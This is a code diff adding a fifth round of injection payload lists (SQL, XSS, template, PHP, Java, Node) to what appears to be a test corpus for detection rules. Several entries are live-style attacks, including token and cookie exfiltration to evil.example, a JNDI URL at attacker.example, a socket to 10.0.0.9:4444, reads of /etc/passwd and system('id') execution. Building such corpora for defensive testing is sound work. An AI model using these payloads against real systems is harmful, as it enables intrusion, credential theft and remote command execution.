@@ -751,6 +751,99 @@ NODE_4 = [
     "vm.runInContext('this', vm.createContext({}))",
 ]
 
+# Round five, written after round four's rules, measured before any change for it: quote probes,
+# dialect file/UDF functions, JS escapes in sinks, template tags of other engines, XMLDecoder, module
+# specifiers with prefixes or subpaths.
+SQLI_5 = [
+    "'='",
+    "'or''='",
+    "1 || 1=1",
+    "1' || '1'='1",
+    "1 and user() like 'root%'",
+    "1 and mid(version(),1,1)=5",
+    "1 and'1'='1",
+    "1 and 0<>1",
+    "select pg_read_file('/etc/passwd')",
+    "1;select pg_ls_dir('.')",
+    "1 and 1=dbms_utility.sqlid_to_sqlhash((select banner from v$version where rownum=1))",
+    "'; select sys_eval('id')--",
+    "1 and sqlite_version()>0",
+    "' AND 1=CAST(@@VERSION AS INT)--",
+    "1 and 1 = (select 1 from dual)",
+]
+
+XSS_5 = [
+    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    "fetch('//evil.example',{method:'POST',body:localStorage.getItem('token')})",
+    "setTimeout`alert\\x281\\x29`",
+    "location=`javascript:alert\\x281\\x29`",
+    "<a href=jav&#x0A;ascript:alert(1)>x</a>",
+    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
+    "self['ev'+'al']('alert(1)')",
+    "<form action=//evil.example/steal><input name=password type=password>",
+    ("javascript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/"
+     "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
+    "<h1 onclick=alert(1)>x</h1>",
+    "document.write('<img src=//evil.example/?'+escape(document.cookie)+'>')",
+]
+
+SSTI_5 = [
+    "{% assign x = 'id' | system %}",
+    "{% do _self.env.registerUndefinedFilterCallback('system') %}",
+    "{% autoescape false %}{{ payload }}{% endautoescape %}",
+    "{% sandbox %}{% include 'x' %}{% endsandbox %}",
+    "<tal:x tal:content=\"python:__import__('os').popen('id').read()\"/>",
+    "#import os\n$os.system('id')",
+    "${\"x\"?eval}",
+    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
+    "<#assign value=\"freemarker.template.utility.ObjectConstructor\"?new()>",
+    "{{ _self.env.display('id') }}",
+    "{% now \"jS F Y H:i\" %}{% debug %}",
+    "${7*'7'}",
+]
+
+PHP_5 = [
+    "[\"system\"][0](\"id\")",
+    "$a=['system'];$a[0]('id');",
+    "chmod('shell.php', 0777)",
+    "symlink('/etc/passwd','x.txt')",
+    "print_r(get_defined_vars())",
+    "<?xml version=\"1.0\"?><?php system('id'); ?>",
+    "shell_exec(base64_decode('aWQ='))",
+    "touch('/var/www/html/x.php')",
+    "$x = $_SERVER['HTTP_X_CMD']; `$x`;",
+    "array_map($_GET['f'], [1])",
+]
+
+JAVA_5 = [
+    "${event:Message}",
+    "${jvmrunargs:x}",
+    "${marker:x}",
+    "<void method=\"start\"/>",
+    "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">",
+    "load('nashorn:mozilla_compat.js')",
+    "Packages.java.lang.Runtime.getRuntime().exec('id')",
+    "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
+    "@{java.lang.Runtime.getRuntime().exec('id')}",
+    "com.sun.jndi.ldap.LdapCtx",
+    "java.lang.reflect.Array.newInstance",
+    "rmi://attacker.example:1099/Exploit",
+]
+
+NODE_5 = [
+    "(0,eval)('1')",
+    "globalThis['ev'+'al']('1')",
+    "import('node:fs').then(f=>f.readFileSync('/etc/passwd'))",
+    "require('fs/promises').readFile('/etc/passwd')",
+    "require('node:os').userInfo()",
+    "eval(req.query.x)",
+    "new (Function.prototype.constructor)('return process')()",
+    "require(\"node:net\").connect(4444, \"10.0.0.9\")",
+    "';return true;var x='",
+    "{\"$where\":\"this.password.match(/.*/)\"}",
+]
+
 # Prototype pollution through query keys and JSON documents (whole-request placements).
 POLLUTION_QUERIES = [
     "__proto__[admin]=1",
@@ -774,7 +867,7 @@ POLLUTION_JSON: list[Any] = [
 ]
 
 ROUND_LISTS = {2: (SQLI_2, XSS_2, SSTI_2, PHP_2, JAVA_2, NODE_2), 3: (SQLI_3, XSS_3, SSTI_3, PHP_3, JAVA_3, NODE_3),
-               4: (SQLI_4, XSS_4, SSTI_4, PHP_4, JAVA_4, NODE_4)}
+               4: (SQLI_4, XSS_4, SSTI_4, PHP_4, JAVA_4, NODE_4), 5: (SQLI_5, XSS_5, SSTI_5, PHP_5, JAVA_5, NODE_5)}
 FAMILIES = {family: first + [p for lists in ROUND_LISTS.values() for p in lists[k]]
             for k, (family, first) in enumerate((("sqli", SQLI), ("xss", XSS), ("ssti", SSTI), ("php", PHP),
                                                  ("java", JAVA), ("nodejs", NODE)))}
